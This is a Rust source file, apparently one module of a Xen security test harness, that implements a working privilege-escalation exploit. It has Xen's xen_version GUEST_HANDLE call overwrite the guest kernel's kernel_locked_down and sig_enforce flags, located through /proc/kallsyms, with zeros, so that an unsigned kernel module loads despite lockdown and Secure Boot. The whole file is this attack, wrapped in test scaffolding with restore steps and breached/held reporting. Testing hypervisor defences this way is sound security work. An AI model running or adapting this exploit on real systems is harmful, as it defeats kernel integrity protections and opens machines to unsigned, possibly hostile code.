//! Xen is told to write over the kernel's lockdown state; then an unsigned module loads.
//!
//! Assumes nothing about addresses: root reads where the state is in /proc/kallsyms, which lockdown leaves open.

use std::fs;

use anyhow::{Context as _, Result};

use super::{Attack, Level};
use crate::calls::version;
use crate::outcome::{Outcome, breached, held, not_applicable};
use crate::witness::{kernel_bytes, lockdown, symbol, symbols, version_works};
use crate::xen::Privcmd;

pub(super) const ATTACK: Attack = Attack {
    id: "version-unlocks-kernel",
    rule: "B3",
    level: Level::Integrity,
    summary: "xen_version(guest_handle) with the address of the kernel's lockdown state and of its demand for \
              signatures: Xen writes zeros there, and the kernel loads an unsigned module",
    needs: "privcmd; a kernel that is locked down; a module file to take the signature from",
    observed: "/sys/kernel/security/lockdown says none; whether a module without signature then loads is told beside it",
    healthy: true,
    timeout_s: super::USUAL_S,
    run,
    twin: || version_works(&Privcmd::open()?),
};

fn run() -> Outcome {
    let before = lockdown()?;
    if before == "none" {
        return not_applicable("the kernel is not locked down");
    }
    let module = super::unsigned_module::Unsigned::prepare()?;
    if module.load().is_ok() {
        return not_applicable("the kernel loads unsigned modules although it is locked down");
    }
    let privcmd = Privcmd::open()?;
    let handle = privcmd.own_handle()?;
    let mut told = Vec::new();
    let mut undo = Vec::new();
    // Under Secure Boot the kernel insists on signatures by flags of its own as well: one for modules, and one of
    // the same name for kexec.
    let mut flags = vec![("kernel_locked_down", symbol("kernel_locked_down")?, 4)];
    flags.extend(symbols("sig_enforce")?.into_iter().map(|address| ("sig_enforce", address, 1)));
    for (name, address, length) in flags {
        // What stands behind the flag is kept where it can be read; otherwise it becomes zero with it.
        let old: [u8; 16] = kernel_bytes(address, 16).ok().and_then(|old| old.try_into().ok()).unwrap_or([0; 16]);
        let mut new = old;
        new.iter_mut().take(length).for_each(|byte| *byte = 0);
        match write(&privcmd, address, new) {
            Ok(()) => told.push(format!("{name}: written over {:02x?}", old.get(..length).unwrap_or_default())),
            Err(error) => told.push(format!("{name}: {error:#}")),
        }
        if name == "sig_enforce" {
            undo.push((address, old));
        }
    }
    let after = lockdown()?;
    let loaded = module.load();
    let in_list = module.is_loaded();
    module.unload();

    for (address, old) in undo {
        drop(write(&privcmd, address, old));
    }
    drop(set_handle(&privcmd, handle));
    // The lock only ever rises, so what was lowered is raised again by the kernel's own interface.
    drop(fs::write("/sys/kernel/security/lockdown", &before));
    let restored = lockdown()?;
    let refused_again = module.load().is_err();
    module.unload();

    let loaded = match (&loaded, in_list) {
        (Ok(()), true) => format!("the unsigned module {} loaded", module.name),
        (Ok(()), false) => "the unsigned module was taken but is not listed".to_owned(),
        (Err(error), _) => format!("the unsigned module is refused: {error}"),
    };
    let evidence = format!(
        "{}; lockdown {before} -> {after}; {loaded}; afterwards lockdown is {restored}, the module refused: \
         {refused_again}",
        told.join(", ")
    );
    // The lock alone is the breach; the module shows what it is worth.
    if after == "none" || in_list { breached(evidence) } else { held(evidence) }
}

/// Has Xen write sixteen bytes to `address`: what it writes is domain 0's handle, which root may set.
fn write(privcmd: &Privcmd, address: u64, bytes: [u8; 16]) -> Result<()> {
    set_handle(privcmd, bytes)?;
    privcmd.version(version::GUEST_HANDLE, address)?;
    Ok(())
}

fn set_handle(privcmd: &Privcmd, handle: [u8; 16]) -> Result<()> {
    const SETDOMAINHANDLE: u32 = 17;
    if privcmd.own_handle()? != handle {
        privcmd.domctl(SETDOMAINHANDLE, 0, &handle).context("domctl setdomainhandle")?;
    }
    Ok(())
}
